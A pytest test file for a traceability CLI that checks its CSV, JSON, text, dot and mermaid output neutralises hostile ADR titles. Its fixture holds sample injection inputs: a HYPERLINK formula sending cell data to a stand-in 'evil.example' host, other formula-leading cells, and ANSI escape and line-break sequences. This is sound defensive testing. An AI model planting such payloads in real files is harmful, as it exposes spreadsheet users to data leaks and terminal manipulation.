"""Titles a repository's author controls, rendered by ``matrix`` (CSV) and ``trace`` (text, dot, mermaid): a
spreadsheet never reads a cell as a formula, and a terminal or a diagram never gets a line break or an escape
sequence from a title — SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json

import pytest

from conftest import GitRepo
from tracertm.cli import main

# Front matter titles can hold what an H1 cannot: line breaks, tabs, escape sequences.
HOSTILE_ADR = (
    '---\ntitle: "=1+2\\nsecond line\\ttab \\x1b[31mred"\nstatus: accepted\ndate: 2024-02-02\n---\n\n'
    "## Context\n\nREQ-9.\n\n## Decision\n\nYes.\n"
)


def _adr(number: int, title: str) -> str:
    return (f"# {number}. {title}\n\nDate: 2024-01-0{number}\n\n## Status\n\nAccepted\n\n"
            f"## Context\n\nREQ-{number}.\n\n## Decision\n\nYes.\n")


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def hostile(git_repo: GitRepo, database_url: str, capsys: pytest.CaptureFixture[str]) -> list[str]:
    git_repo.write("docs/adr/0001-formula.md", _adr(1, '=HYPERLINK("http://evil.example/"&A1,"click"), "q"'))
    git_repo.write("docs/adr/0002-plus.md", _adr(2, "+SUM(1,2) Café, über"))
    git_repo.write("docs/adr/0003-minus.md", _adr(3, "-2+3 and @SUM(A1)"))
    git_repo.write("docs/adr/0004-hostile.md", HOSTILE_ADR)
    git_repo.write("docs/adr/0005-at.md", _adr(5, "@cmd plain"))
    git_repo.write("features/a.feature", "@FEAT-1 @ADR-0001 @ADR-0004\nFeature: A\n\n  @SC-1\n  Scenario: s\n"
                                         "    Given x\n")
    git_repo.commit("specs")
    code, _, err = run(capsys, "sync", str(git_repo.path), "--database-url", database_url)
    assert code == 0, err
    return ["--database-url", database_url, "--path", str(git_repo.path)]


def test_matrix_csv_cells_are_never_formulas(hostile: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "matrix", "--from", "adrs", "--format", "csv", *hostile)
    assert code == 0
    table = list(csv.reader(io.StringIO(out)))
    titles = {row[0]: row[1] for row in table[1:]}
    # OWASP's CSV injection rule: a cell starting with = + - @ (or a tab / carriage return) gets a leading quote,
    # which spreadsheets show as text; everything after it is kept as written, commas, quotes and line breaks too.
    assert titles == {
        "ADR-0001": '\'=HYPERLINK("http://evil.example/"&A1,"click"), "q"',
        "ADR-0002": "'+SUM(1,2) Café, über",
        "ADR-0003": "'-2+3 and @SUM(A1)",
        "ADR-0004": "'=1+2\nsecond line\ttab \x1b[31mred",
        "ADR-0005": "'@cmd plain",
    }
    for row in table:
        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in row), row
    # JSON is data, not a spreadsheet: the titles as written.
    code, out, _ = run(capsys, "matrix", "--from", "adrs", "--format", "json", *hostile)
    rows = {r["id"]: r["title"] for r in json.loads(out)["rows"]}
    assert rows["ADR-0001"].startswith("=HYPERLINK(") and rows["ADR-0004"].startswith("=1+2\nsecond")


def test_trace_text_dot_and_mermaid_keep_titles_on_one_line(
    hostile: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(capsys, "trace", "ADR-0004", "--depth", "1", *hostile)
    assert code == 0
    lines = out.splitlines()
    assert lines[0] == "adr ADR-0004: =1+2\\nsecond line\\ttab \\x1b[31mred"
    assert all(line.isprintable() for line in lines), lines
    assert lines[-1] == "3 related, 3 links"

    code, out, _ = run(capsys, "trace", "ADR-0004", "--depth", "1", "--format", "mermaid", *hostile)
    assert code == 0 and all(line.isprintable() for line in out.splitlines())
    lines = out.splitlines()
    assert lines[0] == "flowchart LR" and all(line.startswith("  n") for line in lines[1:]), lines

    code, out, _ = run(capsys, "trace", "ADR-0004", "--depth", "1", "--format", "dot", *hostile)
    assert code == 0 and all(line.isprintable() for line in out.splitlines())
    assert any(line.startswith("  n0 [label=\"adr ADR-0004: =1+2\\\\nsecond line") for line in out.splitlines())
